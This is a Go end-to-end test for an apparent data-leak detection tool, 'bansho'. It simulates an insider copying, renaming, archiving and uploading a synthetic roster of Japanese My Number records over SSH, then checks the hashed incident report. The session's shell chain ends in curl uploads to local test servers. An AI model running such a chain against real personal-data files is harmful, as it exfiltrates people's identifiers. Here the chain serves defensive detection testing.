package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/bansho-sec/bansho/internal/incident"
	"github.com/bansho-sec/bansho/internal/testutil"
)

const incidentKey = "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"

// incidentRoster writes a roster of n people: name, birth date in the era
// calendar, My Number.
func incidentRoster(t *testing.T, path string, numbers []string) {
	t.Helper()
	var b strings.Builder
	b.WriteString("社員番号,氏名,生年月日,個人番号\n")
	for i, n := range numbers {
		fmt.Fprintf(&b, "%d,社員%d,昭和%d年%d月%d日,%s\n", 1000+i, i, 40+i%20, 1+i%12, 1+i%28, n)
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
}

func scanHashes(t *testing.T, path string) []string {
	t.Helper()
	out, err := exec.Command(binary, "scan", "--format", "json", "--hash-key", incidentKey, path).Output()
	if err != nil {
		t.Fatalf("bansho scan: %v", err)
	}
	var r struct {
		MyNumber struct {
			Hashes []string `json:"hashes"`
		} `json:"my_number"`
	}
	if err := json.Unmarshal(out, &r); err != nil {
		t.Fatal(err)
	}
	return r.MyNumber.Hashes
}

func runIncident(t *testing.T, args ...string) []byte {
	t.Helper()
	cmd := exec.Command(binary, append([]string{"incident"}, args...)...)
	cmd.Env = append(os.Environ(), "BANSHO_CONTENT_HASH_KEY="+incidentKey)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("bansho incident %v: %v\n%s", args, err, stderr.String())
	}
	return out
}

func flowSummary(r *incident.Report) []string {
	var out []string
	for _, f := range r.Flows {
		d := f.Destination.Path
		if d == "" {
			d = fmt.Sprintf("%s:%d", f.Destination.IP, f.Destination.Port)
		}
		out = append(out, fmt.Sprintf("%s %s %s", f.Via, f.Process.Name, d))
	}
	return out
}

// The end-to-end case on the real sensor: a person logs in over
// SSH, reads the protected roster, copies it outside, renames the copy,
// archives it and uploads it over HTTP and HTTPS; unrelated activity runs
// at the same time. bansho incident must give exactly those flows, the
// people by hash, the person and the session's source address, and
// incident affected the roster's rows.
func TestIncidentEndToEnd(t *testing.T) {
	testutil.RequireBPF(t)
	prot, outside, tmp := t.TempDir(), t.TempDir(), t.TempDir()
	numbers := myNumbers(360)
	roster := filepath.Join(prot, "roster.csv")
	incidentRoster(t, roster, numbers[:300])
	other := filepath.Join(prot, "other.csv")
	incidentRoster(t, other, numbers[300:])
	truth := scanHashes(t, roster)
	if len(truth) != 300 {
		t.Fatalf("scan of the roster: %d people, want 300", len(truth))
	}

	var httpBytes, httpsBytes int64
	httpSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n, _ := io.Copy(io.Discard, r.Body)
		httpBytes += n
	}))
	defer httpSrv.Close()
	httpsSrv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n, _ := io.Copy(io.Discard, r.Body)
		httpsBytes += n
	}))
	defer httpsSrv.Close()
	session := testutil.SSHD(t)

	out := filepath.Join(tmp, "out", "events.json")
	os.MkdirAll(filepath.Dir(out), 0o700)
	store := filepath.Join(tmp, "store")
	p := runSensor(t, writeConfig(t, fileConfig(prot, out, "content:\n  hash_key: "+incidentKey+"\nhealth:\n  interval: 1s\n")), out)
	start := time.Now()

	// The person's session: the shell reads the roster (and so carries
	// it), copies it outside, renames the copy, archives it, uploads it.
	copyPath := filepath.Join(outside, "copy.csv")
	notes := filepath.Join(outside, "notes.txt")
	archive := filepath.Join(outside, "a.tgz")
	session(strings.Join([]string{
		"exec 3<" + roster,
		"cp " + roster + " " + copyPath,
		"mv " + copyPath + " " + notes,
		"tar czf " + archive + " -C " + outside + " notes.txt",
		"curl -s -o /dev/null -T " + notes + " " + httpSrv.URL + "/up",
		"curl -sk -o /dev/null -T " + notes + " " + httpsSrv.URL + "/up",
	}, " && "))
	// Unrelated, in the same window: another file, another process, a
	// connection of an untainted one.
	mustRun(t, "/bin/sh", "-c", "cp "+other+" "+filepath.Join(outside, "other-copy.csv"))
	mustRun(t, "/bin/sh", "-c", "echo hello > "+filepath.Join(outside, "unrelated.txt")+"; curl -s -o /dev/null "+httpSrv.URL+"/ping")

	if waitDoc(t, out, 5*time.Second, func(d map[string]any) bool {
		return field(d, "bansho.network.tls") == true && field(d, "process.name") == "curl"
	}) == nil {
		t.Fatalf("no TLS upload event; stderr:\n%s", p.log())
	}
	time.Sleep(1500 * time.Millisecond) // a health document after the last event
	p.stop()

	// From the store, by file.
	raw := runIncident(t, "--store", store, "--file", roster, "--since", start.Add(-time.Minute).Format(time.RFC3339), "--format", "json", "--scan-sources")
	var rep incident.Report
	if err := json.Unmarshal(raw, &rep); err != nil {
		t.Fatalf("report: %v", err)
	}
	got := flowSummary(&rep)
	t.Logf("flows: %q", got)
	httpPort := httpSrv.Listener.Addr().(*net.TCPAddr).Port
	httpsPort := httpsSrv.Listener.Addr().(*net.TCPAddr).Port
	want := []string{
		"copy cp " + copyPath,
		"rename mv " + notes,
		"archive gzip " + archive,
		fmt.Sprintf("send curl 127.0.0.1:%d", httpPort),
		fmt.Sprintf("tls-upload curl 127.0.0.1:%d", httpsPort),
	}
	gotSorted, wantSorted := append([]string(nil), got...), append([]string(nil), want...)
	sort.Strings(gotSorted)
	sort.Strings(wantSorted)
	if strings.Join(gotSorted, "\n") != strings.Join(wantSorted, "\n") {
		t.Errorf("flows:\n got %q\nwant %q", gotSorted, wantSorted)
	}
	for _, f := range rep.Flows {
		if !strings.HasPrefix(f.LoginUser, "root") || f.SSHSource != "127.0.0.1" {
			t.Errorf("flow %d: login %q from %q, want root from 127.0.0.1", f.ID, f.LoginUser, f.SSHSource)
		}
		if len(f.Process.Ancestry) == 0 {
			t.Errorf("flow %d: no ancestry", f.ID)
		}
	}
	// People: what the bytes scanned showed is a subset of the truth; with
	// the roster scanned at rest, the upper bound is exactly the truth.
	truthSet := map[string]bool{}
	for _, h := range truth {
		truthSet[h] = true
	}
	all := append(append([]string(nil), rep.Hashes.MyNumber...), rep.Hashes.MyNumberPossible...)
	for _, h := range all {
		if !truthSet[h] {
			t.Errorf("a hash not of the roster's people is in the report")
			break
		}
	}
	if len(all) != len(truth) || rep.Persons.Upper == nil || *rep.Persons.Upper != len(truth) || rep.Persons.Lower > len(truth) || rep.Persons.Lower == 0 {
		t.Errorf("persons %+v, %d hashes; want upper %d", rep.Persons, len(all), len(truth))
	}
	t.Logf("persons: lower %d (scanned), upper %v (at rest); basis %q", rep.Persons.Lower, *rep.Persons.Upper, rep.Persons.Basis)
	if !slices.Contains(rep.PIITypes, "name") || !slices.Contains(rep.PIITypes, "birth_date") {
		t.Errorf("pii types %v", rep.PIITypes)
	}
	if rep.Deadlines.FinalDays != 30 {
		t.Errorf("deadlines %+v", rep.Deadlines)
	}

	// The same from JSON lines, and the HTML and Markdown forms.
	raw2 := runIncident(t, "--input", out, "--file", roster, "--format", "json")
	var rep2 incident.Report
	if err := json.Unmarshal(raw2, &rep2); err != nil {
		t.Fatal(err)
	}
	if len(rep2.Flows) != len(rep.Flows) || rep2.Persons.Lower != rep.Persons.Lower {
		t.Errorf("from JSON lines: %d flows, %d people; from the store %d, %d", len(rep2.Flows), rep2.Persons.Lower, len(rep.Flows), rep.Persons.Lower)
	}
	html := filepath.Join(tmp, "incident.html")
	runIncident(t, "--store", store, "--file", roster, "--format", "html", "--out", html, "--scan-sources")

	// The rows to notify: exactly the roster's people.
	cmd := exec.Command(binary, "incident", "affected", "--incident", html, "--roster", roster, "--format", "json", "--hash-key", incidentKey)
	aff, err := cmd.Output()
	if err != nil {
		t.Fatalf("incident affected: %v", err)
	}
	var res incident.Affected
	if err := json.Unmarshal(aff, &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 300 || res.Rows[0].Row != 2 || res.Rows[299].Row != 301 || res.NotInRoster != 0 {
		t.Errorf("affected: %d rows (first %v), %d hashes not in the roster", len(res.Rows), res.Rows[:min(1, len(res.Rows))], res.NotInRoster)
	}
	// The other roster's people are not in it.
	aff2, err := exec.Command(binary, "incident", "affected", "--incident", html, "--roster", other, "--format", "json", "--hash-key", incidentKey).Output()
	if err != nil {
		t.Fatal(err)
	}
	var res2 incident.Affected
	json.Unmarshal(aff2, &res2)
	if len(res2.Rows) != 0 {
		t.Errorf("unrelated roster: %d rows affected", len(res2.Rows))
	}
	// No number anywhere.
	for _, b := range [][]byte{raw, raw2, aff, mustRead(t, html)} {
		for _, n := range numbers {
			if strings.Contains(string(b), n) {
				t.Fatal("a raw My Number is in the incident output")
			}
		}
	}
	if os.Getenv("BANSHO_TEST_ARTIFACTS") != "" {
		copyFile(t, html, filepath.Join(os.Getenv("BANSHO_TEST_ARTIFACTS"), "incident.html"))
	}
}

func mustRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(to), 0o755)
	if err := os.WriteFile(to, mustRead(t, from), 0o644); err != nil {
		t.Fatal(err)
	}
}
